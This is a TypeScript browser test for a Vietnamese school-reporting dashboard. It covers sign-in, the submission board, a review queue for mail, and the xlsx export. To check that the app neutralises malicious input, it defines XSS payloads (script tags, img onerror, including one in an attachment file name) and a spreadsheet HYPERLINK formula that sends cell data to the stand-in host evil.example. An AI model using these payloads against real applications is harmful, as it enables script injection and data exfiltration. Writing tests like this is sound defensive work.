/**
 * The dashboard in a real Chromium: sign in, read the board, open a report, decide a mail from
 * the review queue, download the consolidated export and re-read it. A mail whose subject and
 * cells carry script and formula payloads never runs anything and is neutralised in the export.
 * A screenshot of the board is saved in test-results/ for a person to look at.
 */
import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import MailComposer from "nodemailer/lib/mail-composer/index.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import type { Database } from "../../src/db/client.ts";
import { DEFAULT_DEADLINE_RULES } from "../../src/domain/periods.ts";
import { createLogger } from "../../src/logger.ts";
import { manualClock } from "../../src/clock.ts";
import { ingestRaw } from "../../src/mail/inbound/ingest.ts";
import { Outbox } from "../../src/mail/outbound/outbox.ts";
import { buildPhuLuc3Xlsx } from "../../src/reports/documents/phu-luc-3-xlsx.ts";
import { ensureQuarterPeriod, fileVersion } from "../../src/reports/store.ts";
import { loadReportTemplate } from "../../src/reports/template.ts";
import type { Service } from "../../src/service.ts";
import { CHROMIUM, launchBrowser } from "../helpers/browser.ts";
import { openTestDatabase } from "../helpers/db.ts";
import { ingestDeps } from "../helpers/mail.ts";
import { startTestService } from "../helpers/service.ts";

const template = loadReportTemplate();
const PASSWORD = "mat-khau-can-bo-2025";
const NOW = "2025-09-22T09:00:00+07:00";
const XSS_SUBJECT = `Báo cáo quý 3/2025 <script>window.__xss=1</script><img src=x onerror="window.__xss=2">`;
const FORMULA = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`;
const SCREENSHOT = path.join("test-results", "dashboard-board.png");

describe.skipIf(!CHROMIUM && !process.env.CI)("dashboard in Chromium", () => {
  let db: Database;
  let service: Service;
  let browser: Awaited<ReturnType<typeof launchBrowser>>;
  let page: Page;
  const dialogs: string[] = [];

  beforeAll(async () => {
    db = await openTestDatabase("pglite");
    const a = await db.prisma.school.create({ data: { code: "TH-A", name: "Trường Tiểu học An Phú", level: "TH", emails: ["thanphu@example.edu.vn"] } });
    await db.prisma.school.create({ data: { code: "THCS-B", name: "Trường THCS Bình Mỹ", level: "THCS", emails: ["thcsbinhmy@example.edu.vn"] } });
    await db.prisma.school.create({ data: { code: "MN-C", name: "Trường Mầm non Hoa Sen", level: "MN", emails: [] } });
    // A report filed by chat, on time.
    const period = await ensureQuarterPeriod(db.prisma, { year: 2025, quarter: 3 }, DEFAULT_DEADLINE_RULES);
    await fileVersion(db.prisma, { schoolId: a.id, periodId: period.id, source: "chat", actor: { type: "system" }, rows: { "8": { status: "da_hoan_thanh", progressPercent: 100, done: "Dạy trực tuyến 3 lớp" } }, mode: "replace", now: new Date("2025-09-15T03:00:00Z"), rules: DEFAULT_DEADLINE_RULES });
    // A malicious mail from an unknown sender, waiting for review.
    const logger = createLogger({ level: "silent", secrets: [] });
    const xlsx = await buildPhuLuc3Xlsx({ school: { code: "X", name: "X" }, period: { code: "2025-Q3", quarter: 3, year: 2025 }, version: 1, referenceNo: null, submittedAt: null, late: false, items: [{ taskCode: "2", status: "dang_thuc_hien", progressPercent: 50, done: FORMULA, next: "<b>đậm</b>", difficulties: null, recommendations: null }] }, template);
    const raw = await new MailComposer({ from: "la@gmail.com", to: "cntt.cc@hcm.edu.vn", messageId: "<xss@gmail.com>", date: new Date("2025-09-18T02:00:00Z"), subject: XSS_SUBJECT, text: "<script>window.__xss=3</script>", attachments: [{ filename: "<img src=x onerror=alert(1)>.xlsx", content: xlsx }] }).compile().build();
    const outbox = new Outbox(db.prisma, undefined, { from: "x@example.vn", logger });
    const r = await ingestRaw(ingestDeps(db.prisma, outbox, { clock: manualClock(NOW), logger }), raw, new Date("2025-09-18T02:00:00Z"));
    expect(r.outcome).toBe("review");

    service = await startTestService(db, { DASHBOARD_ADMIN_USERNAME: "canbo", DASHBOARD_ADMIN_PASSWORD: PASSWORD, CLOCK_NOW: NOW });
    browser = await launchBrowser();
    page = await browser.context.newPage();
    page.setDefaultTimeout(10_000);
    page.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await service?.stop();
    await db?.close();
  });

  it("signs in and shows the board with every school's state; a screenshot is saved", async () => {
    await page.goto(`${service.url}/dashboard`);
    expect(new URL(page.url()).pathname).toBe("/dashboard/login");
    await page.getByLabel("Tên đăng nhập").fill("canbo");
    await page.getByLabel("Mật khẩu").fill("sai-mat-khau-123");
    await page.getByRole("button", { name: "Đăng nhập" }).click();
    await expect(page.getByRole("alert").textContent()).resolves.toContain("không đúng");
    await page.getByLabel("Tên đăng nhập").fill("canbo");
    await page.getByLabel("Mật khẩu").fill(PASSWORD);
    await page.getByRole("button", { name: "Đăng nhập" }).click();
    await page.waitForURL(/\/dashboard\/periods\/2025-Q3/);
    expect(await page.locator("h1").textContent()).toBe("Tình hình nộp báo cáo — Quý 3/2025");
    const state = async (code: string) => (await page.locator(`tr[data-school="${code}"] .badge`).first().textContent())?.trim();
    expect(await state("TH-A")).toBe("Đúng hạn");
    expect(await state("THCS-B")).toBe("Chưa nộp");
    expect(await page.locator('[data-count="on_time"]').textContent()).toBe("1");
    expect(await page.locator('[data-count="missing"]').textContent()).toBe("2");
    expect(await page.locator('[data-count="review-queue"]').textContent()).toBe("1");
    expect(await page.locator("svg[role=img] rect").count()).toBeGreaterThanOrEqual(14);
    fs.mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
    await page.screenshot({ path: SCREENSHOT, fullPage: true });
    expect(fs.statSync(SCREENSHOT).size).toBeGreaterThan(10_000);
    // On a phone the table scrolls inside its own box: the page itself does not get wider than the screen.
    await page.setViewportSize({ width: 390, height: 844 });
    expect(await page.evaluate(() => (globalThis as unknown as { document: { documentElement: { scrollWidth: number } } }).document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await page.screenshot({ path: SCREENSHOT.replace(".png", "-phone.png"), fullPage: true });
    await page.setViewportSize({ width: 1280, height: 900 });
  });

  it("opens a report with its rows and versions", async () => {
    await page.getByRole("link", { name: "Trường Tiểu học An Phú" }).click();
    await page.waitForURL(/\/dashboard\/reports\//);
    expect(await page.locator("h1").textContent()).toBe("Trường Tiểu học An Phú — Quý 3/2025");
    const row8 = page.locator("table").first().locator("tr", { has: page.locator("td", { hasText: /^8$/ }) });
    expect(await row8.locator("td").allTextContents()).toEqual(["8", template.rows.find((r) => r.code === "8")!.title, "đã hoàn thành", "100", "Dạy trực tuyến 3 lớp", "", "", ""]);
    expect(await page.getByText("Phiên bản 1 — đã nộp").count()).toBe(1);
  });

  it("shows a malicious mail as text, never as markup or script, and accepts it from the review queue", async () => {
    await page.getByRole("link", { name: "Thư cần xem" }).click();
    const subjectCell = page.locator("td", { hasText: "window.__xss=1" });
    expect(await subjectCell.textContent()).toBe(XSS_SUBJECT);
    await page.getByRole("link", { name: "Xử lý" }).click();
    await page.waitForURL(/\/dashboard\/review\//);
    expect(await page.locator("h1").textContent()).toBe(`Thư cần xem: ${XSS_SUBJECT}`);
    expect(await page.locator("img").count()).toBe(0);
    // The machine's reading is the starting point: row 2 read from the attachment.
    expect(await page.locator('textarea[name="c__2__done"]').inputValue()).toBe(FORMULA);
    await page.locator('select[name="schoolId"]').selectOption({ label: "THCS-B — Trường THCS Bình Mỹ" });
    await page.locator('textarea[name="c__2__difficulties"]').fill("Thiếu thiết bị");
    await page.getByRole("button", { name: /Chấp nhận/ }).click();
    await page.waitForURL(/\/dashboard\/reports\//);
    expect(await page.locator("h1").textContent()).toBe("Trường THCS Bình Mỹ — Quý 3/2025");
    expect(await page.locator("td", { hasText: "HYPERLINK" }).first().textContent()).toBe(FORMULA);
    expect(await page.locator("td", { hasText: "đậm" }).first().textContent()).toBe("<b>đậm</b>");
    expect(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
    const mail = await db.prisma.inboundEmail.findFirstOrThrow({ where: { messageId: "<xss@gmail.com>" } });
    expect(mail).toMatchObject({ status: "filed", periodCode: "2025-Q3" });
    expect(mail.resolvedById).not.toBeNull();
    // The receipt went to the sender through the outbox.
    expect(await db.prisma.outboundEmail.count({ where: { dedupeKey: `receipt:${mail.id}` } })).toBe(1);
  });

  it("downloads the consolidated export: a summary sheet and one sheet per filed school, formulas neutralised", async () => {
    await page.goto(`${service.url}/dashboard/periods/2025-Q3`);
    expect(await page.locator('tr[data-school="THCS-B"] .badge').first().textContent()).toBe("Đúng hạn");
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Tải bảng tổng hợp (.xlsx)" }).click()]);
    const file = await download.path();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    expect(wb.worksheets.map((w) => w.name)).toEqual(["Tổng hợp", "TH-A", "THCS-B"]);
    const summary = wb.getWorksheet("Tổng hợp")!;
    const states = Object.fromEntries([3, 4, 5].map((r) => [summary.getCell(r, 2).value, summary.getCell(r, 5).value]));
    expect(states).toEqual({ "TH-A": "Đúng hạn", "THCS-B": "Đúng hạn", "MN-C": "Chưa nộp" });
    const b = wb.getWorksheet("THCS-B")!;
    const row2 = template.rows.findIndex((r) => r.code === "2") + 7;
    expect(b.getCell(row2, 3).value).toBe(`'${FORMULA}`);
    expect(b.getCell(row2, 3).formula).toBeUndefined();
    expect(b.getCell(row2, 5).value).toBe("Thiếu thiết bị");
  });

  it("lets an officer enter a report on a school's behalf, filed with source “dashboard”", async () => {
    await page.goto(`${service.url}/dashboard/periods/2025-Q3`);
    await page.locator('tr[data-school="MN-C"]').getByRole("link", { name: "Nhập thay" }).click();
    await page.locator('select[name="c__9__status"]').selectOption({ label: "đang thực hiện" });
    await page.locator('input[name="c__9__progress"]').fill("40");
    await page.locator('textarea[name="c__9__done"]').fill("Số hóa 120 đầu sách (báo cáo qua điện thoại)");
    await page.getByRole("button", { name: "Lưu và nộp thay trường" }).click();
    await page.waitForURL(/\/dashboard\/reports\//);
    await page.goto(`${service.url}/dashboard/periods/2025-Q3`);
    const cells = await page.locator('tr[data-school="MN-C"] td').allTextContents();
    expect(cells.slice(3, 5)).toEqual(["Trễ hạn", "Bảng điều khiển"]);
    const report = await db.prisma.report.findFirstOrThrow({ where: { school: { code: "MN-C" } }, include: { items: true } });
    expect(report).toMatchObject({ source: "dashboard", status: "submitted", version: 1, late: true });
    expect(report.items.map((i) => [i.taskCode, i.status, i.progressPercent, i.done])).toEqual([["9", "dang_thuc_hien", 40, "Số hóa 120 đầu sách (báo cáo qua điện thoại)"]]);
  });
});
